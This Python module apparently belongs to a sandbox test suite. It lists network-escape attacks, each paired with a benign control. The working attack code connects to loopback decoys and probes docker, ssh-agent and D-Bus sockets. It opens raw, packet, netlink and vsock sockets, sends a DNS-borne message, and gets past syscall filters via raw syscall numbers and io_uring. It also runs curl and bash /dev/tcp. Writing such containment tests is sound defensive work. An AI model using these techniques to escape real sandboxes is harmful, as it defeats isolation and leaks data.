"""Reaching the network, or other processes by sockets: every family of addresses, and the ways around a filter of `socket()`."""

from functools import partial

from tests.attacks.attack import Win, attack

_network = partial(attack, family="network", wins=(Win.REACHES, Win.LEAKS))

_MACHINE = {"not_shown": "it depends on the machine whether there is such a door"}
_VISIT = {"not_shown": "the arena sees the visit, the answer does not"}

_PAIR = """
import socket


def standardize(x):
    one, other = socket.socketpair()
    with one, other:
        one.sendall(b"hola")
        assert other.recv(4) == b"hola"
    return (x - x.mean(axis=0)) / x.std(axis=0)
"""

_NO_NETWORK = """
import ipaddress
import urllib.parse


def standardize(x):
    assert ipaddress.ip_address("127.0.0.1").is_loopback
    assert urllib.parse.urlparse("http://ejemplo.ar/a?b=1").query == "b=1"
    try:
        import socket

        socket.create_connection(("127.0.0.1", 9), timeout=0.2)
    except OSError:
        pass
    return (x - x.mean(axis=0)) / x.std(axis=0)
"""

_OWN_SOCKET = """
import os
import socket
import tempfile
import threading


def standardize(x):
    with tempfile.TemporaryDirectory() as folder:
        with socket.socket(socket.AF_UNIX) as door:
            door.bind(os.path.join(folder, "d"))
            door.listen()

            def answer():
                with door.accept()[0] as guest:
                    guest.sendall(b"hola")

            thread = threading.Thread(target=answer)
            thread.start()
            with socket.socket(socket.AF_UNIX) as guest:
                guest.connect(os.path.join(folder, "d"))
                assert guest.recv(4) == b"hola"
            thread.join()
    return (x - x.mean(axis=0)) / x.std(axis=0)
"""

_QUEUES = """
from multiprocessing import Pipe


def standardize(x):
    one, other = Pipe()
    one.send_bytes(x.tobytes())
    x = np.frombuffer(other.recv_bytes()).reshape(x.shape)
    return (x - x.mean(axis=0)) / x.std(axis=0)
"""


def _visit(expression: str, address: str) -> str:
    return f"""
import socket


def standardize(x):
    with socket.socket({expression}) as door:
        door.settimeout(2)
        door.connect({address})
        if door.type == socket.SOCK_DGRAM:
            door.send(b"hola")
        _leak(door.recv(4096))
"""


# Succeeds in what should be refused, and says so.
def _opened(expression: str) -> str:
    return f"""
import socket


def standardize(x):
    with socket.socket({expression}):
        raise RuntimeError(_proof())
"""


ATTACKS = (
    _network(
        "tcp", "connect to a server on loopback", _visit("socket.AF_INET", "('127.0.0.1', @@DECOY_PORT@@)"), _NO_NETWORK, "1"
    ),
    _network("tcp6", "the same over IPv6", _visit("socket.AF_INET6", "('::1', @@DECOY_PORT6@@)"), _NO_NETWORK, "1", **_MACHINE),
    _network(
        "udp",
        "send a datagram, which Landlock does not stop",
        _visit("socket.AF_INET, socket.SOCK_DGRAM", "('127.0.0.1', @@DECOY_UDP@@)"),
        _NO_NETWORK,
        "1",
    ),
    _network(
        "udp_without_connecting",
        "send a datagram with sendto and with sendmsg, with MSG_FASTOPEN too",
        """
import socket


def standardize(x):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        try:
            door = socket.socket(socket.AF_INET, kind)
            for flags in (0, 0x20000000):
                try:
                    port = @@DECOY_UDP@@ if kind == socket.SOCK_DGRAM else @@DECOY_PORT@@
                    door.sendto(b"hola", flags, ("127.0.0.1", port))
                    door.sendmsg([b"hola"], [], flags, ("127.0.0.1", port))
                except OSError:
                    pass
        except OSError:
            pass
    return x
""",
        _PAIR,
        "1",
        **_VISIT,
    ),
    _network(
        "abstract_socket",
        "connect to another process's abstract UNIX socket",
        _visit("socket.AF_UNIX", "'\\0@@ABSTRACT@@'"),
        _OWN_SOCKET,
        "1",
    ),
    _network(
        "unix_socket",
        "connect to another process's UNIX socket in the file system",
        _visit("socket.AF_UNIX", "'@@SOCKET@@'"),
        _OWN_SOCKET,
        "1",
    ),
    _network(
        "sockets_of_the_system",
        "connect to whatever X11, docker, D-Bus, ssh-agent and systemd have left open",
        """
import glob
import os
import socket


def standardize(x):
    known = ["/var/run/docker.sock", "/run/dbus/system_bus_socket", "\\0/tmp/.X11-unix/X0", "/run/systemd/private", "/dev/log", os.environ.get("SSH_AUTH_SOCK", "/x")]
    opened = 0
    for path in known + glob.glob("/tmp/.X11-unix/*") + glob.glob("/run/*.sock") + glob.glob("/tmp/*/agent.*") + ["@@SOCKET@@"]:
        with socket.socket(socket.AF_UNIX) as door:
            door.settimeout(1)
            try:
                door.connect(path)
                opened += 1
            except OSError:
                pass
    raise RuntimeError(_proof() if opened else "nada")
""",
        _OWN_SOCKET,
        "1",
    ),
    _network(
        "raw_socket", "open a raw socket", _opened("socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP"), _PAIR, "1", **_MACHINE
    ),
    _network(
        "packet_socket",
        "open a packet socket, which sees every frame",
        _opened("socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)"),
        _PAIR,
        "1",
        **_MACHINE,
    ),
    _network(
        "netlink",
        "open netlink, which lists interfaces and processes",
        _opened("socket.AF_NETLINK, socket.SOCK_RAW, 0"),
        _QUEUES,
        "1",
    ),
    _network(
        "vsock",
        "open AF_VSOCK, which leaves a virtual machine",
        _opened("socket.AF_VSOCK, socket.SOCK_STREAM"),
        _QUEUES,
        "1",
        **_MACHINE,
    ),
    _network(
        "kernel_crypto",
        "open AF_ALG, a door to the kernel's crypto",
        _opened("socket.AF_ALG, socket.SOCK_SEQPACKET"),
        _QUEUES,
        "1",
        **_MACHINE,
    ),
    _network(
        "names",
        "resolve a name, which carries a message out; with the resolver and by hand",
        """
import socket
import struct


def standardize(x):
    query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"\\x07secreto\\x07invalid\\x00" + struct.pack(">2H", 1, 1)
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as door:
            door.sendto(query, ("127.0.0.1", @@DECOY_UDP@@))
    except OSError:
        pass
    raise RuntimeError(_proof() if socket.getaddrinfo("localhost", @@DECOY_PORT@@, type=socket.SOCK_STREAM) and socket.create_connection(("localhost", @@DECOY_PORT@@), 2) else "")
""",
        _NO_NETWORK,
        "1",
    ),
    _network(
        "system_calls_by_number",
        "make the socket by system call number: the plain one, the x32 one, socketcall, and that of 32-bit code",
        """
import ctypes
import socket
import struct


def standardize(x):
    libc = ctypes.CDLL(None, use_errno=True)
    for number, shift in ((41, 0), (41, 0x40000000)):
        for kind in (1, 2, 1 | 0x80000, (1 << 32) | 1):
            fd = libc.syscall(ctypes.c_long(number | shift), ctypes.c_long(2), ctypes.c_long(kind), ctypes.c_long(0))
            if fd >= 0:
                door = socket.socket(fileno=fd)
                door.settimeout(1)
                try:
                    door.connect(("127.0.0.1", @@DECOY_PORT@@))
                except OSError:
                    pass
                raise RuntimeError(_proof())
    return x
""",
        """
import ctypes


def standardize(x):
    libc = ctypes.CDLL(None)
    assert libc.getpid() > 0
    return (x - x.mean(axis=0)) / x.std(axis=0)
""",
        "1",
    ),
    _network(
        "io_uring",
        "set up a ring, whose operations pass by no filter of system calls",
        """
import ctypes


def standardize(x):
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.syscall(425, 8, ctypes.create_string_buffer(120))
    raise RuntimeError(_proof() if fd >= 0 else "nada")
""",
        """
import asyncio


def standardize(x):
    async def scaled():
        await asyncio.sleep(0)
        return (x - x.mean(axis=0)) / x.std(axis=0)

    return asyncio.run(scaled())
""",
        "1",
        **_MACHINE,
    ),
    _network(
        "programs_that_connect",
        "let another program do it: curl, bash's /dev/tcp, python without our modules",
        """
import subprocess
import sys


def standardize(x):
    said = []
    for command in (
        ["curl", "-s", "-m", "2", "http://127.0.0.1:@@DECOY_PORT@@/"],
        ["bash", "-c", "cat < /dev/tcp/127.0.0.1/@@DECOY_PORT@@"],
        ["bash", "-c", "echo hola > /dev/udp/127.0.0.1/@@DECOY_UDP@@"],
        [sys.executable, "-S", "-c", "import socket; print(socket.create_connection(('127.0.0.1', @@DECOY_PORT@@), 2).recv(99))"],
    ):
        try:
            said.append(subprocess.run(command, capture_output=True, timeout=5).stdout)
        except Exception:
            pass
    _leak(*said)
""",
        """
import subprocess


def standardize(x):
    assert subprocess.run(["cat"], input=b"hola", capture_output=True, timeout=20, check=True).stdout == b"hola"
    return (x - x.mean(axis=0)) / x.std(axis=0)
""",
        "1",
    ),
    _network(
        "a_server_of_its_own",
        "listen on TCP and UDP, for a friend outside to ask",
        """
import socket


def standardize(x):
    opened = []
    for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 0)), (socket.AF_INET6, socket.SOCK_STREAM, ("::", 0)), (socket.AF_INET, socket.SOCK_DGRAM, ("0.0.0.0", 0))):
        try:
            door = socket.socket(family, kind)
            door.bind(address)
            if kind == socket.SOCK_STREAM:
                door.listen()
            opened.append(door)
        except OSError:
            pass
    raise RuntimeError(_proof() if opened else "nada")
""",
        _OWN_SOCKET,
        "1",
    ),
)
